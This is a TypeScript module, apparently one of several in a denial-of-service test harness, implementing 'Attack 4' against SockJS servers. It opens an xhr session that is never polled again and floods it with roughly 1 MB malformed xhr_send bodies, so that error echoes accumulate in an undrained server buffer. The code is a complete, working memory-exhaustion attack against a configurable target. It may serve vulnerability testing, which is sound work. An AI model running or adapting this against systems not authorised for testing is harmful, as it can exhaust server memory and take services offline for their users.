/**
 * Attack 4: a SockJS xhr session whose client never polls again (no
 * receiver), fed ~1 MB `xhr_send` bodies whose frame has no `msg`. Each is
 * answered with `Bad request`, which, if it echoes the offending message,
 * piles up ~1 MB per POST in a send buffer nobody drains, for as long as
 * SockJS keeps the session (disconnect_delay, 60 s).
 */
import { randomBytes } from 'node:crypto';
import { Agent, request } from 'node:http';
import type { Deadline } from './deadline';
import { ErrorTally } from './error-tally';
import type { AttackReport, AttackSizes, AttackTarget } from './types';

const LANES = 2;
/** Under the default 1 MiB body limit once JSON-escaped. */
const BODY = JSON.stringify([JSON.stringify({ x: 'a'.repeat(1_000_000) })]);

function post(target: AttackTarget, agent: Agent, path: string, body: string): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = request(
      { host: target.host, port: target.port, localAddress: target.localAddress, agent, method: 'POST', path, headers: { 'content-type': 'text/plain;charset=UTF-8', 'content-length': Buffer.byteLength(body) } },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => void (text.length < 200 && (text += chunk)));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
        res.on('error', reject);
      },
    );
    req.setTimeout(10_000, () => req.destroy(new Error('request timeout')));
    req.once('error', reject);
    req.end(body);
  });
}

export async function sockjsNoReader(target: AttackTarget, _sizes: AttackSizes, deadline: Deadline): Promise<AttackReport> {
  const errors = new ErrorTally();
  const agent = new Agent({ keepAlive: true, maxSockets: LANES + 1 });
  const statuses = new Map<number, number>();
  let sessions = 0;
  let accepted = 0;
  let session: Promise<string> | null = null;
  // One xhr poll opens the session ("o"); nobody polls it again.
  const openSession = async () => {
    const sid = randomBytes(6).toString('hex');
    const opened = await post(target, agent, `/sockjs/000/${sid}/xhr`, '');
    if (!opened.text.startsWith('o')) throw new Error(`xhr open: HTTP ${opened.status} ${opened.text.slice(0, 40)}`);
    sessions++;
    return sid;
  };
  const lane = async () => {
    while (!deadline.done) {
      try {
        session ??= openSession();
        const sid = await session;
        const res = await deadline.race(post(target, agent, `/sockjs/000/${sid}/xhr_send`, BODY), null);
        if (!res) break;
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        if (res.status === 204) accepted++;
        else if (res.status === 404) session = null; // the server dropped the session: open another
        else await deadline.sleep(50);
      } catch (error) {
        if (deadline.done) break;
        errors.add(error);
        session = null;
        await deadline.sleep(100);
      }
    }
  };
  await Promise.all(Array.from({ length: LANES }, lane));
  agent.destroy();
  const byStatus = [...statuses].map(([s, n]) => `${s}×${n}`).join(', ');
  return {
    sent: accepted, unit: 'accepted 1 MB bodies', errors: errors.count, firstError: errors.first,
    detail: `${sessions} unread session(s); xhr_send answers: ${byStatus || 'none'} (${((accepted * BODY.length) / 1024 ** 2).toFixed(0)} MB accepted)`,
  };
}
